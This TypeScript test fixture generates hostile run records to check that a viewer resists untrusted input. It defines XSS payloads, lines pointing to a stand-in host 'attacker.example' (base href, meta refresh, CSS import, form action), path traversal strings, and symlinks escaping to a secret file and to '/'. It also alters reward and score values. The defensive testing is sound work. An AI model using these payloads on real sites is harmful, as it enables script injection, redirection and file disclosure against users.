/** A record by somebody who wants the reader's browser: every text that the format lets him choose is an attack. */
import { mkdir, symlink, writeFile } from 'node:fs/promises';
import { dirname, join } from 'node:path';
import type { EnvSpec } from '../../../src/core/index.js';
import { type SyntheticRun, writeSyntheticRun } from './synthetic-run.js';

/** Sets `window.attacked` wherever it gets to run. */
const CODE = 'window.attacked=1';

export const ATTACKS = [
  `<script>${CODE}</script>`,
  `"><img src=x onerror="${CODE}">`,
  `'><svg onload='${CODE}'>`,
  `</title><script>${CODE}</script>`,
  `</style><script>${CODE}</script>`,
  `</pre></details><iframe srcdoc="<script>parent.attacked=1</script>"></iframe>`,
  `<a href="javascript:${CODE}">x</a>`,
  `<base href="https://attacker.example/"><link rel=stylesheet href=//attacker.example/a.css>`,
  `<meta http-equiv="refresh" content="0;url=https://attacker.example/">`,
  `<style>@import url(https://attacker.example/a.css);*{display:none}</style>`,
  `<form action=https://attacker.example/><input autofocus onfocus=${CODE}>`,
  '../../../../etc/passwd',
  '\u202Etxt.exe\u0000\u0007\ud800',
  'a'.repeat(20_000),
] as const;

const ALL = ATTACKS.join(' ');

/** All attacks at once, in every text of the record. */
export function hostileRun(seed: number): SyntheticRun {
  return {
    policy: ALL,
    seed,
    decisions: ATTACKS.length,
    isText: true,
    edit: (header) => ({
      ...header,
      game: {
        name: ALL,
        config: {
          title: ALL,
          emulator: { env: ALL },
          actions: [{ name: ALL }],
          reference: [
            { name: ALL, mean: 1, source: ALL },
            { name: 'huge', mean: 1e308, source: ALL },
          ],
        },
      },
      arguments: { given: [ALL], resolved: { maxSteps: 1e300, [ALL]: ALL } },
      policy: { id: ALL, provenance: { [ALL]: ALL, checkpoint_sha256: ALL } },
      env: { ...(header.env as EnvSpec), id: ALL, actionNames: [ALL], frameSkip: 2 ** 40 },
      versions: { agent: ALL, [ALL]: ALL },
    }),
    editStep: (line) => {
      const attack = ATTACKS[line.step - 1] as string;
      return {
        ...line,
        raw: attack,
        parse: { ok: false, reason: 'no-match', found: [attack] },
        answered: null,
        executed: 0,
        fallback: attack,
        rejected: [
          { reason: 'no-match', raw: attack, found: [attack] },
          { reason: attack, error: { code: attack, message: attack, where: attack } },
        ],
        attempts: 2,
        reward: line.step === 1 ? 1e307 : 0,
        policyMs: 1e300,
      };
    },
  };
}

/** Folder names are chosen by an attacker too. */
export const HOSTILE_FOLDERS = [
  'javascript:window.attacked=1',
  '"><img src=x onerror=window.attacked=1>',
  "'onmouseover='window.attacked=1",
  '%2e%2e',
  '..%2f..',
  '#?&',
];

/** Records under names like these below `root`, each with a video file; and records that are broken in other ways. */
export async function writeHostileRuns(root: string): Promise<void> {
  for (const [index, name] of HOSTILE_FOLDERS.entries()) {
    const folder = join(root, name);
    await writeSyntheticRun(folder, hostileRun(100_000 + index));
    await writeFile(join(folder, 'episode.mp4'), 'no film');
  }
  const broken = (name: string): string => join(root, 'broken', name);
  const good = { policy: 'random', seed: 100_100, decisions: 20 };
  await writeSyntheticRun(broken('good'), good);

  await writeSyntheticRun(broken('truncated'), { ...good, seed: 100_101 });
  await edit(join(broken('truncated'), 'steps.jsonl'), (text) => text.slice(0, -30));

  await writeSyntheticRun(broken('altered'), { ...good, seed: 100_102 });
  await edit(join(broken('altered'), 'steps.jsonl'), (text) => text.replace(/"reward":-?[\d.]+/, '"reward":1000'));

  await writeSyntheticRun(broken('boast'), { ...good, seed: 100_103 });
  await edit(join(broken('boast'), 'manifest.json'), (text) => text.replace(/"score": -?[\d.]+/, '"score": 1e300'));

  await writeSyntheticRun(broken('no-number'), { ...good, seed: 100_104 });
  await edit(join(broken('no-number'), 'steps.jsonl'), (text) => text.replace(/"reward":-?[\d.]+/, '"reward":NaN'));

  await mkdir(broken('no-steps'), { recursive: true });
  await edit(join(broken('good'), 'manifest.json'), (text) => text, join(broken('no-steps'), 'manifest.json'));

  await mkdir(broken('no-manifest'), { recursive: true });
  await writeFile(join(broken('no-manifest'), 'manifest.json'), `{"format":1,"x":"${ATTACKS[0]}`);

  // Links that lead out of the folder: to a secret as the manifest, and to a secret as the video.
  const secret = join(dirname(root), 'secret.txt');
  await writeFile(secret, 'TOP-SECRET-CONTENT');
  await mkdir(broken('linked-manifest'), { recursive: true });
  await symlink(secret, join(broken('linked-manifest'), 'manifest.json'));
  await mkdir(broken('linked-evaluation'), { recursive: true });
  await symlink(secret, join(broken('linked-evaluation'), 'evaluation.json'));
  await writeSyntheticRun(broken('linked-video'), { ...good, seed: 100_105 });
  await symlink(secret, join(broken('linked-video'), 'episode.mp4'));
  await symlink('/', join(root, 'linked-root'));
}

async function edit(path: string, change: (text: string) => string, to = path): Promise<void> {
  const { readFile } = await import('node:fs/promises');
  await writeFile(to, change(await readFile(path, 'utf8')));
}
